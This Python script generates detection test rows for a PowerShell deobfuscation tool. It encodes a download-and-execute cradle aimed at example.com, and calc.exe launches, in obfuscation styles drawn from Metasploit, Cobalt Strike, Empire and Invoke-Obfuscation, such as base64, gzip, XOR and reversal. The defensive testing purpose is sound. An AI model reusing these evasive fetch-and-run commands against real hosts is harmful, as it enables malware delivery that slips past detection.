#!/usr/bin/env python3
"""Writes those rows of tests/commands/table whose text is computed: base64, deflate, gzip, reversed
and replaced text. The values on the right side come from Python, not from ddetect."""
import base64, gzip, io, os, zlib

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "commands", "table")
IEX = "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')"
EMPIRE = "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');IEX $wc.DownloadString('http://example.com/index.asp')"
HEY = 'Write-Host "Hey, Atomic!"'
CALC = "Start-Process calc.exe"
CMD = "cmd.exe /c calc.exe"


def utf16(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


def utf8(text):
    return base64.b64encode(text.encode()).decode()


def deflate(text):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(packer.compress(text.encode()) + packer.flush()).decode()


def gzipped(text):
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as file:
        file.write(text.encode())
    return base64.b64encode(out.getvalue()).decode()


def codes(text, form="%d", sep=","):
    return sep.join(form % ord(c) for c in text)


class Table:
    def __init__(self, name, about, service="powershell", root="powershell.exe"):
        self.name, self.lines, self.count = name, [f"# {about}", "# Written by tests/support/make-command-rows.py.", f"service {service}", f"root {root}"], 0

    def row(self, source, topic, *lines, start=None):
        self.count += 1
        self.lines += ["", f"[{self.name}-{self.count:02}] {source}"]
        if start:
            self.lines += [f"s {start[0]}", f"r {start[1]}"]
        self.lines += [f"t {topic}", *lines]

    def done(self):
        with open(os.path.join(HERE, self.name + ".txt"), "w", newline="\n") as file:
            file.write("\n".join(self.lines) + "\n")


URL = "i url http://example.com/a.ps1"
SAYS = "= DownloadString"

t = Table("ps-encoded", "powershell.exe -EncodedCommand: the base64 of UTF-16, its parameter shortened in many ways.")
t.row("Atomic Red Team a50d5a97-2531-499e-a1de-5544c74432c6", "-EncodedCommand " + utf16(HEY), "= " + HEY)
t.row("Empire launcher (BC-Security documentation)", "-noP -sta -w 1 -enc " + utf16(EMPIRE), "= New-Object System.Net.WebClient", "i url http://example.com/index.asp")
t.row("TrustedSec Unicorn: -w 1 -C … -ec", "-w 1 -nop -ep bypass -ec " + utf16(IEX), SAYS, URL)
t.row("Metasploit, psh-cmd: -nop -w hidden -e", "-nop -w hidden -e " + utf16(IEX), SAYS, URL)
t.row("Sigma, Suspicious Encoded PowerShell Command Line: -en", "-en " + utf16(CALC), "> calc.exe")
t.row("Sigma, Suspicious Encoded PowerShell Command Line: -enco", "-enco " + utf16(CALC), "> calc.exe")
t.row("Sigma, PowerShell parameter substring: -encodedcom", "-encodedcom " + utf16(CALC), "> calc.exe")
t.row("Unit 42, Pulling Back the Curtains on EncodedCommand, 2017: random case", "-nOP -nOnI -W hIdDEn -ENC " + utf16(IEX), SAYS, URL)
t.row("Sigma, PowerShell parameter variations: a slash for the dash", "/NoP /eNC " + utf16(CALC), "> calc.exe")
t.row("Wietze Beukema, command-line obfuscation: en dash (U+2013)", "\u2013NoP \u2013enc " + utf16(CALC), "> calc.exe")
t.row("Bohannon, Revoke-Obfuscation: an encoded command in an encoded command", "-enc " + utf16("powershell -enc " + utf16(CALC)), "> powershell.exe", "> calc.exe")
t.row("Cobalt Strike: -nop -exec bypass -EncodedCommand", "-nop -exec bypass -EncodedCommand " + utf16(IEX), SAYS, URL)
t.row("SensePost, Macro-less code exec in MSWord, 2017: PowerShell from a shell", "/k powershell.exe -NoP -sta -NonI -W Hidden -enc " + utf16(IEX), "> powershell.exe", SAYS, URL, start=("cmd", "cmd.exe"))
t.done()

t = Table("ps-base64", "PowerShell: base64 within the script, in several encodings.")
for source, name, encode in [
    ("Atomic Red Team 450e7218-7915-4be4-8b9b-464a49eafcec: [Text.Encoding]::UNICODE", "[Text.Encoding]::UNICODE", utf16),
    ("Microsoft, Convert.FromBase64String; Encoding.UTF8", "[System.Text.Encoding]::UTF8", utf8),
    ("Microsoft, Convert.FromBase64String; Encoding.ASCII", "[Text.Encoding]::ASCII", utf8),
    ("Unit 42, Pulling Back the Curtains on EncodedCommand, 2017: random case", "[tExT.EnCoDiNg]::uTf8", utf8),
    ("Microsoft, Encoding.Unicode, in full", "[System.Text.Encoding]::Unicode", utf16),
]:
    t.row(source, f"-c IEX ({name}.GetString([Convert]::FromBase64String('{encode(IEX)}')))", SAYS, URL)
    t.row(source + ", piped", f"-nop -c {name}.GetString([System.Convert]::FromBase64String('{encode(CALC)}'))|iex", "> calc.exe")
t.row("DDE field of APT28, McAfee, 2017: -enc of a downloaded text", "-NoP -sta -NonI -W Hidden $e=(New-Object System.Net.WebClient).DownloadString('http://example.com/config.txt');powershell -enc $e", "= DownloadString", "i url http://example.com/config.txt")
t.row("Bohannon, Invoke-Obfuscation: base64 in a variable", f"-c $b='{utf8(CALC)}';$d=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b));iex $d", "> calc.exe")
t.done()

t = Table("ps-compressed", "PowerShell: deflate and gzip streams. The stream `88wry89O1X…` is published with its plain text.")
OSCD = "88wry89O1XWtKChKLS7OzM9T0PBLLdf1T8pKTS5R8Est0QtPTXLOyUzNK9HUc8kvz8vJT0wJLinKzEsHAA=="
plain = zlib.decompress(base64.b64decode(OSCD), -15).decode()
for n, form in enumerate([
    "(neW-obJECT sYSTEm.io.CompReSSiOn.deFlAteStReam([io.MEmOrYsTreAm] [sysTEm.COnVErT]::frOMBase64strInG('@' ) ,[sYsTEM.IO.compReSSiON.cOMPReSSIoNMOde]::dEcOMprEss ) | fOreach { neW-obJECT IO.StReamreadeR( $_ ,[syStEM.teXt.ENCodING]::AsCII) } |ForEAcH{ $_.reADToEND()} )| IEx",
    "Iex( new-oBJeCt  sYStem.IO.CoMprESsIOn.DefLatEsTREam( [Io.mEmOrYstreAM][SYsTem.conveRT]::FROmBASE64stRING( '@' ) ,[io.CoMpREssiON.COmpresSionmODe]::dECoMPresS )|%{ new-oBJeCt  io.sTREamREAdER( $_ ,[Text.ENcOdinG]::ASCII ) }| % {$_.reAdToenD( ) })",
    "InvOKE-ExPresSiOn (nEW-ObjeCt  SySteM.IO.compReSSion.DEFLaTeSTReAM( [IO.mEmOrYstReaM] [CONvERT]::frOMBASe64stRING('@'),[SYSteM.iO.CoMPREssIoN.ComPressiONmoDe]::DecOMPREss) |% { nEW-ObjeCt  syStEM.io.stREaMrEadeR( $_ ,[tEXT.ENCodiNG]::ascIi ) } ).rEADtOend()",
    "IEX (NEw-oBjEcT  SYsTEM.io.streamrEader((NEw-oBjEcT  io.comPREssion.DEFlATeStReam( [Io.memorystrEam] [coNvert]::FROmbase64sTRiNg('@' ) , [SystEm.Io.cOMpREsSiON.coMPReSSIonMODE]::DecompREsS)), [TeXT.EncOdIng]::aScii) ).rEADtoeND()",
], 1):
    t.row(f"OSCD, Invoke-Obfuscation task 19 (COMPRESS\\1), result {n}", "-c " + form.replace("@", OSCD), "= " + plain)
METASPLOIT = "&([scriptblock]::create((New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('@'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()))"
COBALT = "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('@'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();"
POWERSPLOIT = "Invoke-Expression $(New-Object IO.StreamReader ($(New-Object IO.Compression.DeflateStream ($(New-Object IO.MemoryStream (,$([Convert]::FromBase64String('@')))), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd();"
t.row("Metasploit, Powershell payload (exec_in_place, gzip)", "-nop -w hidden -c " + METASPLOIT.replace("@", gzipped(IEX)), SAYS, URL)
t.row("Metasploit, Powershell payload, starts a program", "-nop -w hidden -c " + METASPLOIT.replace("@", gzipped(CALC)), "> calc.exe")
t.row("Cobalt Strike, PowerShell stager (gzip)", "-nop -w hidden -c " + COBALT.replace("@", gzipped(IEX)), SAYS, URL)
t.row("Cobalt Strike, PowerShell stager in an encoded command", "-nop -w hidden -encodedcommand " + utf16(COBALT.replace("@", gzipped(CALC))), "> calc.exe")
t.row("PowerSploit, Out-CompressedDll / Out-EncodedCommand (deflate)", "-c " + POWERSPLOIT.replace("@", deflate(IEX)), SAYS, URL)
t.row("PowerSploit, Out-EncodedCommand, starts a program", "-c " + POWERSPLOIT.replace("@", deflate(CMD)), "> cmd.exe", "> calc.exe")
t.row("Bohannon, Invoke-Obfuscation COMPRESS\\1 over a download", "-c " + "IEX (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('@'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()".replace("@", deflate(IEX)), SAYS, URL)
t.done()

t = Table("ps-codes", "PowerShell: characters as numbers in several bases, and exclusive or.")
ORIGINAL = "Invoke-Expression (New-Object Net.WebClient).DownloadString"
t.row("OSCD, Invoke-Obfuscation task 11 (ENCODING\\1), -join", "-c inVoKe-ExPResSion ( -jOiN((73 , 110,118, 111, 107,101, 45 ,69 ,120, 112 , 114 ,101 , 115,115,105,111, 110 ,32,40 , 78,101, 119 ,45, 79,98 , 106 ,101, 99,116,32 , 78,101 , 116 ,46 ,87,101,98 , 67 , 108,105, 101, 110 ,116 , 41 ,46, 68 ,111,119,110 ,108 , 111, 97, 100, 83, 116 ,114, 105, 110,103)|foreAch{([INt] $_ -aS [cHAr]) }) )", "= " + ORIGINAL)
t.row("OSCD, Invoke-Obfuscation task 12 (ENCODING\\2), .Split", "-c ( '49}6eU76w6f:6b:65U2dV45w78V70w72:65V73,73}69}6fU6e}20:28>4e,65>77U2dV4fV62,6a-65>63,74w20V4eU65U74:2e:57>65V62>43:6c-69:65U6eU74}29}2e>44U6f:77w6e,6c:6f>61V64>53-74}72V69}6ew67'.SpLIT('VU},w>:-')|foREAch-obJect { ( [conVeRt]::ToiNT16(( [string]$_ ), 16 ) -as [ChAR])} ) -join'' |IEx", "= " + ORIGINAL)
t.row("OSCD, Invoke-Obfuscation task 12 (ENCODING\\2), [string]::Join", "-c IEX([StRIng]::jOin('' ,('49>6ex76~6f>6bo65x2d%45%78%70}72}65~73w73~69>6f%6e;20w28~4e;65%77>2d;4fw62;6ax65;63}74%20>4eo65o74%2e>57}65%62>43~6c>69;65~6e~74o29;2e%44w6fx77;6ew6cw6fx61o64x53%74o72~69~6e~67'.SPlIt( '%~o};>xw' )| %{ ([ConVERt]::TOINt16( ( [striNg]$_), 16 ) -as[CHar])})))", "= " + ORIGINAL)
t.row("OSCD, Invoke-Obfuscation task 13 (ENCODING\\3), octal", "-c [STRinG]::JOiN('',( (111,156 ,166 , 157, 153,145,55, 105, 170, 160 , 162 ,145 ,163,163,151 ,157 ,156,40,50, 116,145 ,167 , 55,117,142 ,152,145 , 143, 164,40 , 116 ,145,164 , 56 , 127 , 145, 142 ,103, 154, 151 ,145 ,156,164, 51, 56 ,104, 157, 167 , 156 ,154, 157,141 ,144,123,164 , 162 , 151 ,156, 147)|foReacH{([cHAR] ( [convERt]::ToINT16(( [striNG]$_) ,8))) } )) | iEx", "= " + ORIGINAL)
t.row("OSCD, Invoke-Obfuscation task 14 (ENCODING\\4), binary", "-c iNvOKE-EXPReSsiON ( ( (1001001 , 1101110 ,1110110,1101111 ,1101011, 1100101 ,101101 , 1000101 , 1111000, 1110000,1110010, 1100101 ,1110011,1110011 ,1101001 , 1101111,1101110 ,100000,101000 ,1001110, 1100101, 1110111,101101 ,1001111 ,1100010, 1101010, 1100101 ,1100011,1110100,100000 , 1001110,1100101 , 1110100,101110,1010111 ,1100101,1100010 , 1000011, 1101100 , 1101001, 1100101 ,1101110 ,1110100 , 101001,101110, 1000100,1101111 ,1110111 , 1101110, 1101100, 1101111 , 1100001 ,1100100 , 1010011 ,1110100,1110010, 1101001,1101110 ,1100111)| fOREach-ObjECt{([cHAR] ( [COnveRT]::toinT16(([sTriNG]$_ ) ,2 ) )) })-joIN'')", "= " + ORIGINAL)
t.row("OSCD, Invoke-Obfuscation task 16 (ENCODING\\6), -bxor 0x2D", "-c [sTrinG]::JoIn( '', ([Char[]]( 100 ,67 , 91, 66,70 ,72, 0 ,104,85,93, 95 ,72,94, 94 , 68 , 66 ,67 , 13 ,5 ,99 , 72,90, 0 ,98 , 79, 71 ,72,78, 89 , 13 ,99, 72,89, 3 , 122 ,72 ,79, 110,65,68,72, 67 ,89,4 , 3, 105 , 66 ,90,67,65 ,66 , 76,73, 126,89,95,68,67 , 74 )| fOREach {[Char] ( $_ -BxOr  0x2D  ) })) | iEx", "= " + ORIGINAL)
t.row("Microsoft, about_Arithmetic: [char] numbers added", "-c iex ([char]99+[char]97+[char]108+[char]99)", "> calc.exe")
t.row("Microsoft, [char] with hexadecimal numbers", "-c iex ([char]0x63+[char]0x61+[char]0x6c+[char]0x63+'.exe')", "> calc.exe")
t.row("Microsoft, about_Join: an array of characters", f"-c iex (-join [char[]]({codes(CALC)}))", "> calc.exe")
t.row("Bohannon, Invoke-Obfuscation ENCODING\\1: ForEach-Object", f"-c (({codes(IEX)})|%{{[char]$_}}) -join ''|iex", SAYS, URL)
t.row("Bohannon, Invoke-Obfuscation ENCODING\\1: [char[]] joined by [string]", f"-c IEX([string]::Join('',[char[]]({codes(IEX)})))", SAYS, URL)
t.row("Bohannon, Invoke-Obfuscation ENCODING\\1: split and -as", f"-c ('{codes(CALC, sep='-')}'.Split('-')|ForEach-Object{{([int]$_ -as [char])}}) -join ''|iex", "> calc.exe")
t.row("Bohannon, Invoke-Obfuscation ENCODING\\6: -bxor of numbers", f"-c iex (-join (({','.join(str(ord(c) ^ 0x41) for c in CALC)})|%{{[char]($_ -bxor 0x41)}}))", "> calc.exe")
t.done()

t = Table("ps-reverse", "PowerShell: text reversed, replaced, cut.")
REV = IEX[::-1].replace("'", "''")
t.row("Bohannon, Invoke-Obfuscation STRING\\3: -join of negative indices", f"-c iex (-join '{CALC[::-1]}'[-1..-{len(CALC)}])", "> calc.exe")
t.row("Bohannon, Invoke-Obfuscation STRING\\3: over a download", f"-c $s='{REV}';iex ($s[-1..-($s.Length)] -join '')", SAYS, URL)
t.row("Microsoft, Array.Reverse", f"-c $a='{CALC[::-1]}'.ToCharArray();[array]::Reverse($a);iex (-join $a)", "> calc.exe")
t.row("Microsoft, Array.Reverse in a variable, [string]::Join", f"-c $a=[char[]]'{CALC[::-1]}';[Array]::Reverse($a);IEX ([string]::Join('',$a))", "> calc.exe")
t.row("Microsoft, String.Replace", f"-c iex ('{CALC.replace('a', '@')}'.Replace('@','a'))", "> calc.exe")
t.row("Microsoft, about_Comparison_Operators: -replace", f"-c iex ('{CALC.replace('c', '#')}' -replace '#','c')", "> calc.exe")
t.row("Microsoft, about_Comparison_Operators: -creplace", f"-c iex ('{CALC.replace('c', 'Z')}' -creplace 'Z','c')", "> calc.exe")
t.row("Bohannon, Invoke-Obfuscation STRING\\2: several replacements", "-c iex (('IEX (New-Object Net.WebClient).DownloadString(QQQhttp:zzexample.comza.ps1QQQ)').Replace('QQQ',[string][char]39).Replace('zz','//').Replace('za','/a'))", SAYS, URL)
t.row("Bohannon, Invoke-Obfuscation STRING\\2: -replace by [char]39", "-c iex ('IEX (New-Object Net.WebClient).DownloadString(QxQhttp://example.com/a.ps1QxQ)' -replace 'QxQ',[char]39)", SAYS, URL)
t.row("minusone test, 'hello'.Substring(1, 3)", "-c iex ('xxcalc.exeyy'.Substring(2,8))", "> calc.exe")
t.row("minusone test, 'hello'.Remove(2, 2)", "-c iex ('caXXlc.exe'.Remove(2,2))", "> calc.exe")
t.row("minusone test, 'hello'.Insert(2, 'XY')", "-c iex ('ca.exe'.Insert(2,'lc'))", "> calc.exe")
t.row("minusone test, 'xxhelloxx'.Trim('x')", "-c iex ('zzcalc.exezz'.Trim('z'))", "> calc.exe")
t.done()
